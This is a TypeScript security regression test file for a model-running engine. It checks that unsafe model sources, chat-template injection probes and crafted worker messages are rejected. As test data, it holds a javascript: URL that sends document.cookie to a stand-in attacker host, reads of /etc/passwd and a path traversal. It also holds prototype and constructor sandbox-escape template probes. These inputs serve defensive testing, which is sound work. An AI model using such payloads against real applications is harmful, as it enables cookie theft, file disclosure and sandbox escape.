/**
 * ModelRunner-side security checks of issue 9, recorded for docs/faults.md:
 * - model sources are http(s) URLs, Blobs/Files the user picked, or (Node only) paths: `javascript:`, `file:`,
 *   `data:`, `blob:` and other URLs are rejected with a typed InvalidRequestError before anything is fetched;
 * - chat templates cannot reach prototypes or globals (the full suite: runtime/tokenizer/chat-template.test.ts,
 *   'gives templates no way to reach JavaScript objects'; the probes are replayed here for the fault table);
 * - the worker accepts only method calls of its API (the full suite: workers/protocol.test.ts).
 */
import { describe, expect, it } from 'vitest';
import { InvalidRequestError, LongtabError } from '../../core/errors.ts';
import { withTestGpu } from '../../test/gpu.ts';
import { describeError, faultLog } from '../../test/regressions/fault-log.ts';
import { checkWorkerMessage } from '../../workers/protocol.ts';
import { renderChatTemplate } from '../tokenizer/chat-template.ts';
import { LongtabEngine } from './api.ts';
import { createNodeEngine } from './node.ts';

const ctx = withTestGpu();
const log = faultLog('security');

const REJECTED_SOURCES = [
  'javascript:alert(document.domain)',
  'JavaScript:fetch("//evil.example/"+document.cookie)',
  'file:///etc/passwd',
  'file:///home/user/model.gguf',
  'data:application/octet-stream;base64,R0dVRgMAAAA=',
  'blob:http://127.0.0.1/6f1c0d6e-0000-4000-8000-000000000000',
  'ftp://example.com/model.gguf',
  'ws://127.0.0.1:1/model.gguf',
  'chrome://settings',
];

async function loadError(engine: LongtabEngine, source: unknown): Promise<unknown> {
  try {
    await engine.load(source as string);
  } catch (error) {
    return error;
  }
  return null;
}

describe('model sources', () => {
  it.each([
    ['the browser engine (no file paths)', false],
    ['the Node engine (file paths allowed)', true],
  ])('%s rejects non-http(s) URLs with InvalidRequestError', async (label, node) => {
    const engine = node ? createNodeEngine({ gpu: ctx.gpu }) : new LongtabEngine({ gpu: ctx.gpu });
    const fetched: string[] = [];
    const realFetch = globalThis.fetch;
    globalThis.fetch = (async (input: RequestInfo | URL) => {
      fetched.push(String(input));
      throw new Error('no network in this test');
    }) as typeof fetch;
    try {
      for (const source of REJECTED_SOURCES) {
        const error = await loadError(engine, source);
        log.record({
          area: 'sources',
          fault: `load('${source}') in ${label}`,
          expected: 'InvalidRequestError (invalid-request), nothing fetched',
          outcome: describeError(error),
          ok: error instanceof InvalidRequestError,
        });
        expect(error, source).toBeInstanceOf(InvalidRequestError);
        expect((error as LongtabError).code).toBe('invalid-request');
        expect((error as Error).message).toMatch(/http\(s\)|not a valid URL/);
      }
      for (const source of [{}, 42, null, { href: 'https://x/m.gguf' }, ['https://x/m.gguf']]) {
        const error = await loadError(engine, source);
        log.record({
          area: 'sources',
          fault: `load(${JSON.stringify(source)}) (not a URL, File or Blob) in ${label}`,
          expected: 'InvalidRequestError',
          outcome: describeError(error),
          ok: error instanceof InvalidRequestError,
        });
        expect(error).toBeInstanceOf(InvalidRequestError);
      }
      expect(fetched).toEqual([]);
    } finally {
      globalThis.fetch = realFetch;
      engine.destroy();
    }
  });

  it('a relative path is not a URL in the browser engine outside a page', async () => {
    const engine = new LongtabEngine({ gpu: ctx.gpu });
    const error = await loadError(engine, '../../etc/passwd');
    log.record({
      area: 'sources',
      fault: "load('../../etc/passwd') in the browser engine",
      expected: 'InvalidRequestError (paths load only in Node)',
      outcome: describeError(error),
      ok: error instanceof InvalidRequestError,
    });
    expect(error).toBeInstanceOf(InvalidRequestError);
    engine.destroy();
  });
});

describe('chat templates and worker messages (replayed for the fault table)', () => {
  it('template probes of prototypes and globals render nothing or fail inside the interpreter', () => {
    const messages = [{ role: 'user', content: 'hi' }];
    const probes = [
      "{{ ''.constructor }}",
      '{{ messages.__proto__ }}',
      "{{ messages[0]['__proto__'] }}",
      '{{ globalThis }}{{ process }}{{ window }}{{ require }}',
      "{{ ''.constructor.constructor('return process')() }}",
    ];
    for (const probe of probes) {
      let outcome: string;
      let ok: boolean;
      try {
        const text = renderChatTemplate(probe, { messages });
        outcome = text === '' ? 'rendered empty' : `rendered ${JSON.stringify(text)}`;
        ok = text === '';
      } catch (error) {
        outcome = describeError(error);
        ok = error instanceof LongtabError;
      }
      log.record({
        area: 'chat template',
        fault: `template ${probe}`,
        expected: 'renders nothing, or a LongtabError; no JS object reached',
        outcome,
        ok,
      });
      expect(ok, probe).toBe(true);
    }
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('the worker rejects messages other than method calls of its API', () => {
    const messages: Array<[string, unknown]> = [
      ['a GET of constructor', { id: 'a', type: 'GET', path: ['constructor'] }],
      ['a SET of a property', { id: 'a', type: 'SET', path: ['x'], value: { type: 'RAW', value: 1 } }],
      ['a call of __proto__', { id: 'a', type: 'APPLY', path: ['__proto__'], argumentList: [] }],
      ['a call through chat.call', { id: 'a', type: 'APPLY', path: ['chat', 'call'], argumentList: [] }],
      ['too many arguments', { id: 'a', type: 'APPLY', path: ['stats'], argumentList: [{ type: 'RAW', value: 1 }] }],
      ['null', null],
    ];
    for (const [label, message] of messages) {
      const reason = checkWorkerMessage(message);
      log.record({
        area: 'worker',
        fault: `worker message: ${label}`,
        expected: 'rejected before reaching the engine',
        outcome: reason ? `rejected: ${reason}` : 'accepted',
        ok: reason !== null,
      });
      expect(reason, label).not.toBeNull();
    }
  });
});
